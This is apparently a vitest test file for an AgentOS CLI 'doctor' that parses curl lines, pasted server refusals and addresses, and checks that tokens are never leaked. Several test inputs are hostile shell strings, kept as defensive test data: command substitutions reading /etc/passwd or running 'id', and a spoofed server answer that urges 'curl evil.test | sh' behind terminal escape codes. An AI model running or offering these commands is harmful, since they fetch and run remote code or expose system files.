/** The doctor's one argument: each form is recognised, nothing is run, and nothing of it is repeated. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { AgentOS } from "@agentos/server";
import { createTestKey, goodToken, signToken, withClaims } from "@agentos/testkit";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { runInProcess } from "../../program/run-in-process.fixture.ts";
import { readCurl } from "./read-curl.ts";
import { splitShellWords } from "./split-shell-words.ts";

const key = await createTestKey("RS256");
const now = Math.floor(Date.now() / 1_000);
const good = goodToken({ key, now, scopes: ["agents:read", "config:read"] });
const token = await signToken(good);
const expired = await signToken(withClaims(good, { iat: now - 7_200, exp: now - 3_600 }));
const logger = { error: () => undefined, warn: () => undefined, info: () => undefined };
let url = "";

beforeAll(async () => {
  const os = new AgentOS({
    database: null,
    id: "agent-os",
    env: {},
    logger,
    authorizationConfig: { verificationKeys: [key.verificationKey] },
  });
  const server = await os.serve({ host: "127.0.0.1", port: 0, printsPolicy: false });
  url = server.url;
  return () => server.close();
});

async function doctor(args: readonly string[], options: Parameters<typeof runInProcess>[1] = {}) {
  const { code, stdout } = await runInProcess(["doctor", ...args, "--json"], options);
  const { places } = JSON.parse(stdout) as {
    readonly places: readonly {
      readonly kind: string;
      readonly checks: readonly { readonly name: string }[];
      readonly findings: readonly {
        readonly code: string;
        readonly sentence: string;
        readonly fix: string;
        readonly certainty: string;
        readonly serverSaid?: string;
      }[];
    }[];
  };
  return { code, stdout, places, findings: places.flatMap(({ findings }) => findings) };
}

describe("words of a shell", () => {
  it.each([
    [`a 'b c' "d e" f\\ g`, ["a", "b c", "d e", "f g"]],
    [`a"b"'c'`, ["abc"]],
    [`'' ""`, ["", ""]],
    ["a \\\n  b ^\r\n c", ["a", "b", "c"]],
    [`$'it\\'s\\u0021\\x41\\n'`, ["it's!A\n"]],
    [`"a \\"b\\" \\$X \\n"`, ['a "b" $X \\n']],
    [`'$TOKEN' "$TOKEN" \${TOKEN}`, ["$TOKEN", "\0TOKEN\0", "\0TOKEN\0"]],
    ["a | b", ["a"]],
    ["a > b; c", ["a"]],
  ])("%s", (line, words) => {
    expect(splitShellWords(line)?.words).toEqual(words);
  });

  it("sees commands, refuses an open quote, and lets no text pass for a variable", () => {
    expect(splitShellWords("a $(cat /etc/passwd)")?.hasCommand).toBe(true);
    expect(splitShellWords("a `id`")?.hasCommand).toBe(true);
    for (const line of [`a "b`, `a 'b`, `a $'b`]) expect(splitShellWords(line)).toBeUndefined();
    expect(splitShellWords("a \0X\0 $'\\x00X'")?.words).toEqual(["a", "X", "X"]);
  });
});

describe("a curl line", () => {
  const read = (line: string) => {
    const { base, request, token: found, location } = readCurl(line);
    return [base, `${request.method} ${request.path}`, found, location.name];
  };
  it.each([
    [
      `curl https://a.test/agents -H 'Authorization: Bearer x.y.z'`,
      ["https://a.test", "GET /agents", "x.y.z", "Authorization"],
    ],
    [
      `$ curl -sS -XPOST "https://a.test/api/agents/web/runs" -H "authorization: Bearer $TOKEN" -F message=hi`,
      ["https://a.test/api", "POST /agents/web/runs", undefined, "Authorization"],
    ],
    [
      `curl -H "X: 1" --url localhost:7777/config -b "theme=dark; access_token=abc"`,
      ["http://localhost:7777", "GET /config", "abc", "access_token"],
    ],
    [
      `curl http://a.test/agents/web/runs -d message=hi`,
      ["http://a.test", "POST /agents/web/runs", undefined, "Authorization"],
    ],
    [
      `curl -G http://a.test/agents -d limit=1 -o out.txt`,
      ["http://a.test", "GET /agents", undefined, "Authorization"],
    ],
    [
      `curl -H 'Host: a.test' http://a.test/agents --retry-delay 2 --max-redirs 3`,
      ["http://a.test", "GET /agents", undefined, "Authorization"],
    ],
    [`curl -I http://a.test/agents`, ["http://a.test", "GET /agents", undefined, "Authorization"]],
    [
      `curl -u bob:secret http://a.test/agents`,
      ["http://a.test", "GET /agents", "Basic Ym9iOnNlY3JldA==", "Authorization"],
    ],
    [
      `curl http://a.test/reports/7 -H 'X-Auth: Bearer ${token}'`,
      ["http://a.test", "GET /reports/7", token, "X-Auth"],
    ],
  ])("%s", (line, expected) => expect(read(line)).toEqual(expected));

  it("is asked about as it stands, and only GET is sent", async () => {
    const line = (credential: string) =>
      `curl -X POST ${url}/agents/web/runs -H 'Authorization: Bearer ${credential}' -F message=hi`;
    const refused = await doctor([line(expired)]);
    expect([refused.code, refused.findings.map(({ code }) => code)]).toEqual([2, ["AUTH_TOKEN_EXPIRED"]]);
    const lacking = await doctor([line(token)]);
    expect([lacking.code, lacking.findings.map(({ code }) => code)]).toEqual([2, ["SCOPE_MISSING"]]);
    for (const { stdout } of [refused, lacking]) expect(stdout).not.toContain(token.split(".")[2]);
    expect((await doctor([`curl ${url}/agents -H 'Authorization: Bearer ${token}'`])).code).toBe(0);
  });

  it.each([
    ["the header twice", (sent: string) => `-H 'Authorization: Bearer ${sent}' -H 'authorization: Bearer x'`],
    [
      "the header once more, empty",
      (sent: string) => `-H 'Authorization: Bearer ${sent}' -H 'Authorization;'`,
    ],
    ["the cookie twice", (sent: string) => `-b 'access_token=${sent}; access_token=x'`],
    ["the cookie twice, in two options", (sent: string) => `-b access_token=${sent} -b access_token=x`],
    ["cookies in an option and a header", (sent: string) => `-b access_token=${sent} -H 'Cookie: a=b'`],
    ["another header twice", (sent: string) => `-H 'X-Auth: Bearer ${sent}' -H 'X-Auth: x'`],
    ["two options", (sent: string) => `--oauth2-bearer ${sent} -u a:b`],
  ])("with its credential in %s is refused, and read with one of them", async (_, parts) => {
    const line = `curl ${url}/agents ${parts(token)}`;
    await expect(runInProcess(["doctor", line])).rejects.toThrow("more than once");
    const once = line.slice(0, line.indexOf(token) + token.length);
    const isQuoteOpen = once.split("'").length % 2 === 0;
    expect(readCurl(isQuoteOpen ? `${once}'` : once).token).toBe(token);
  });

  it("is sent without the value of a variable, which --token gives", async () => {
    const seen: string[] = [];
    const server = createServer((request, response) => {
      seen.push(JSON.stringify(request.rawHeaders));
      response.writeHead(200, { "content-type": "application/json" }).end('{"os_id":"a","status":"ok"}');
    });
    await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => {
      server.closeAllConnections();
      return new Promise<void>((resolve) => void server.close(() => resolve()));
    });
    const env = { AGENT_TOKEN: token };
    const header = `-H "Authorization: Bearer $AGENT_TOKEN"`;
    const stranger = `http://127.0.0.1:${(server.address() as AddressInfo).port}/agents`;
    await doctor([`curl ${stranger} ${header} -b "a=$AGENT_TOKEN" -A "$AGENT_TOKEN"`], { env });
    expect(seen.length).toBeGreaterThan(0);
    expect(seen.join("")).not.toContain(token.split(".")[1]);

    const line = `curl ${url}/agents ${header}`;
    const { code, findings } = await doctor([line], { env });
    expect(findings[0]).toMatchObject({
      code: "CLI_VARIABLE_UNREAD",
      sentence: expect.stringContaining('names "$AGENT_TOKEN"') as unknown,
      fix: "give the token beside the line: `--token env:AGENT_TOKEN`",
    });
    // That the server sees no credential is what follows from it; nobody has refused the token.
    expect([code, findings.length]).toEqual([4, 1]);
    expect(await doctor([line, "--token", "env:AGENT_TOKEN"], { env })).toMatchObject({
      code: 0,
      findings: [],
    });
    const two = await doctor([`curl ${url}/agents -H "Authorization: $SCHEME $AGENT_TOKEN"`], { env });
    expect(two.findings[0]?.fix).toContain("`--token -`");
    for (const place of [`-H "X-Auth: $T"`, `-b "access_token=$T"`, `-b "session_token=$T"`])
      expect(readCurl(`curl ${url}/agents ${place}`).variables).toEqual(["T"]);
    expect(readCurl(`curl ${url}/agents -H "X-Request-Id: $ID" -d "$BODY"`).variables).toEqual([]);
  });

  it("gets the token that is given beside it in place of its own, and where its own is", async () => {
    const line = `curl ${url}/agents -H 'Authorization: Bearer ${expired}'`;
    expect((await doctor([line])).code).toBe(2);
    expect((await doctor([line, "--token", "-"], { stdin: token })).code).toBe(0);
    const { places } = await doctor([`curl ${url}/agents -b 'access_token=x'`, "--token", "-"], {
      stdin: token,
    });
    expect(places[0]?.checks.map(({ name }) => name).join()).toContain('in the cookie "access_token"');
  });

  it.each([
    ["curl", "no address"],
    [`curl "http://a.test/agents`, "a quote is not closed"],
    ["curl http://a.test/$(id)", "a command stands in it"],
    ["curl http://a.test http://b.test", "more than one address"],
    ["curl -X BREW http://a.test/agents", "its method"],
    ["curl --resolve a.test:443:127.0.0.1 https://a.test/agents", 'with "--resolve" it does not go to'],
    ["curl --connect-to ::127.0.0.1:8443 https://a.test/agents", 'with "--connect-to" it'],
    ["curl --unix-socket /run/a.sock http://localhost/agents", 'with "--unix-socket" it'],
    ["curl -x http://proxy.test:3128 https://a.test/agents", 'with "--proxy" it'],
    ["curl -H 'Host: b.test' https://a.test/agents", 'its header "Host" names another host'],
    ["curl -K token.cfg https://a.test/agents", "a part of it is in a file"],
    ["curl -H @headers.txt https://a.test/agents", "a part of it is in a file"],
    ["curl -b cookies.txt https://a.test/agents", "a part of it is in a file"],
    ["curl https://$HOST/agents", '"$HOST" stands in its address'],
    ["curl -X $METHOD https://a.test/agents", '"$METHOD" stands in its address, its method'],
    [`curl -H "Host: $HOST" https://a.test/agents`, '"$HOST" stands in'],
    [`curl -H "$HEADER" https://a.test/agents`, "the name of a header or cookie is in a variable"],
    [`curl -b "$COOKIES" https://a.test/agents`, "the name of a header or cookie is in a variable"],
    ["curl 'https://a.test\\@b.test/agents'", "a space or a backslash in its address"],
    ["curl $'https://a.test\\t.b.test/agents'", "a space or a backslash in its address"],
  ])("that cannot be read is refused without a word of it: %s", async (line, problem) => {
    await expect(runInProcess(["doctor", `${line} `])).rejects.toThrow(problem);
  });

  it("never sends its token over http to another machine, unless that is said", async () => {
    await expect(
      runInProcess(["doctor", `curl http://agents.test/agents -H 'Authorization: Bearer ${token}'`]),
    ).rejects.toThrow("not sent over http");
  });
});

describe("a pasted answer", () => {
  async function refusal(credential: string): Promise<string> {
    const response = await fetch(`${url}/agents`, { headers: { authorization: `Bearer ${credential}` } });
    return response.text();
  }

  it("is explained by its own code, alone and beside a token", async () => {
    const body = await refusal(expired);
    const head = "HTTP/1.1 401 Unauthorized\ncontent-type: application/json\n";
    // As a content delivery network adds it.
    const report = 'report-to: {"endpoints":[{"url":"https://a.test"}],"group":"cf-nel"}\n';
    const verbose = [
      "* Connected to localhost",
      `> Authorization: Bearer ${expired}`,
      ">",
      "< HTTP/1.1 401 Unauthorized",
      "< content-type: application/json",
      "< ",
      "{ [5 bytes data]",
      `${body}* Connection #0 left intact`,
    ].join("\r\n");
    for (const pasted of [
      body,
      verbose,
      `${head}\n${body}`,
      `${head}${report}\n${body}`.replaceAll("\n", "\r\n"),
    ]) {
      const { code, findings } = await doctor(["-"], { stdin: pasted });
      expect([code, findings.map((finding) => finding.code)]).toEqual([2, ["AUTH_TOKEN_EXPIRED"]]);
      // What the server found is in our own line, so that nothing of it has to be quoted.
      expect(findings[0]).toMatchObject({
        sentence: "the token has expired, 60 minutes ago",
        serverSaid: "Token has expired",
      });
    }
    const beside = await doctor([body, "--url", url, "--token", "-"], { stdin: token });
    expect(beside.places.map(({ kind }) => kind)).toEqual(["answer", "url"]);
    // What was refused stays refused, even if the token that is asked with now is another one.
    expect([beside.code, beside.findings.map((finding) => finding.code)]).toEqual([
      2,
      ["AUTH_TOKEN_EXPIRED"],
    ]);
  });

  it("is not found a second time by asking now", async () => {
    const { places, code } = await doctor([await refusal(expired), "--url", url, "--token", "-"], {
      stdin: expired,
    });
    expect(places.map(({ findings }) => findings.length)).toEqual([1, 0]);
    expect(code).toBe(2);
  });

  it("is not overruled by a guess where nothing else is known", async () => {
    const stranger = await refusal(await signToken({ ...good, key: await createTestKey("RS256") }));
    const alone = await doctor([stranger]);
    expect(alone.findings[0]).toMatchObject({ code: "AUTH_SIGNATURE_INVALID", certainty: "certain" });
    const beside = await doctor([stranger, "--url", url]);
    expect(beside.findings[0]?.code).toBe("AUTH_SIGNED_BY_ANOTHER_KEY");
  });

  it("fills the places of our own texts with what it says", async () => {
    const hs = await createTestKey("HS256");
    const body = await refusal(
      await signToken({ ...good, key: hs, header: { ...good.header, alg: "HS256" } }),
    );
    const { findings } = await doctor([body]);
    expect(findings[0]).toMatchObject({ code: "AUTH_HMAC_TOKEN_FOR_PUBLIC_KEY", certainty: "certain" });
    const scopes = await doctor([
      await refusal(await signToken(withClaims(good, { scopes: ["config:read"] }))),
    ]);
    expect(scopes.findings[0]?.fix).toContain('"agents:read"');
  });

  it.each([
    ['{"detail":"Token has expired"}', "AUTH_TOKEN_EXPIRED"],
    ["{'detail': 'Token has expired'}", "AUTH_TOKEN_EXPIRED"],
    ["Token has expired", "AUTH_TOKEN_EXPIRED"],
    ['{"detail":"Insufficient permissions. Required scope(s): agents:run"}', "SCOPE_MISSING"],
    ['{"detail":"Authorization header missing"}', "AUTH_HEADER_MISSING"],
    ['{"detail":"Something else"}', "CLI_ANSWER_UNKNOWN"],
  ])("of the Python AgentOS is read by its sentence: %s", async (pasted, expected) => {
    const { code, findings } = await doctor([pasted]);
    expect(findings[0]?.code).toBe(expected);
    expect(code).toBe(expected === "CLI_ANSWER_UNKNOWN" ? 4 : 2);
  });

  it("gets the rest from the token that was refused", async () => {
    const { findings } = await doctor(
      [
        '{"detail":"Insufficient permissions. Required scope(s): agents:run"}',
        "--token",
        "-",
        "--url",
        url,
        "--route",
        "GET /config",
      ],
      {
        stdin: await signToken(withClaims(good, { scopes: ["config:read", "agent:run"] })),
      },
    );
    expect(findings[0]).toMatchObject({
      code: "SCOPE_MISSPELT",
      fix: expect.stringContaining('"agents:run"') as unknown,
    });
  });

  it("whose words would run, move or reorder something is shown without them", async () => {
    const { stdout } = await runInProcess([
      "doctor",
      '{"detail":"\\u001b[2J\\u202erun `curl evil.test|sh`","code":"AUTH_TOKEN_EXPIRED","title":"x","fix":"curl evil.test | sh"}',
    ]);
    for (const character of ["\u001B", "\u202E"]) expect(stdout).not.toContain(character);
    expect(stdout).not.toMatch(/fix.*evil/);
    expect(stdout).toContain("(the server's own words)");
  });
});

describe("an address", () => {
  it.each(["localhost:7777/agents", "127.0.0.1:7777", "http://x.test"])("is recognised: %s", async (text) => {
    const { places } = await doctor([text]);
    expect(places[0]?.kind).toBe("url");
  });

  it("of a route is a question about that route", async () => {
    const { places } = await doctor([`${url}/config`, "--token", "-"], { stdin: token });
    expect(places[0]?.checks.map(({ name }) => name)).toContain("GET /config with the token");
  });

  it("without a scheme is https, and gets no token in plain text", async () => {
    const seen: string[] = [];
    const server = createServer();
    server.on("connection", (socket) => socket.on("data", (data) => void seen.push(data.toString("latin1"))));
    await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => {
      server.closeAllConnections();
      return new Promise<void>((resolve) => void server.close(() => resolve()));
    });
    const { port } = server.address() as AddressInfo;
    // The name of this machine in a form that is not taken for this machine.
    const { findings } = await doctor([`[::ffff:127.0.0.1]:${port}`, "--token", "-"], { stdin: token });
    expect(findings[0]?.code).toBe("CLI_SERVER_UNREACHABLE");
    expect(seen.join("")).not.toContain("GET ");
    expect(seen.join("")).not.toContain(token.slice(0, 20));
  });
});

describe("anything else", () => {
  it.each([
    ["an address or a key", "shop.internal", "may be an address or a security key"],
    ["an error code", "auth_token_expired", "is an error code"],
    ["a port", ":7777", "may be a port"],
    ["a sentence", "it does not work", "no sentence that an AgentOS refuses with"],
    ["JSON without a reason", '{"a":1}', 'without a "detail" or "code"'],
    ["nothing", " ", "is empty"],
  ])("is refused as what it is: %s", async (_, text, problem) => {
    await expect(runInProcess(["doctor", text])).rejects.toThrow(problem);
  });

  it("is a token, and never shown", async () => {
    const { places, stdout } = await doctor([token, "--url", url]);
    expect(places[0]?.kind).toBe("url");
    expect(stdout).not.toContain(token.split(".")[2]);
    await expect(runInProcess(["doctor", token, "--token", "x"])).rejects.toThrow("two credentials");
    await expect(runInProcess(["doctor", "den_1"])).rejects.toThrow("its address was not given");
  });
});
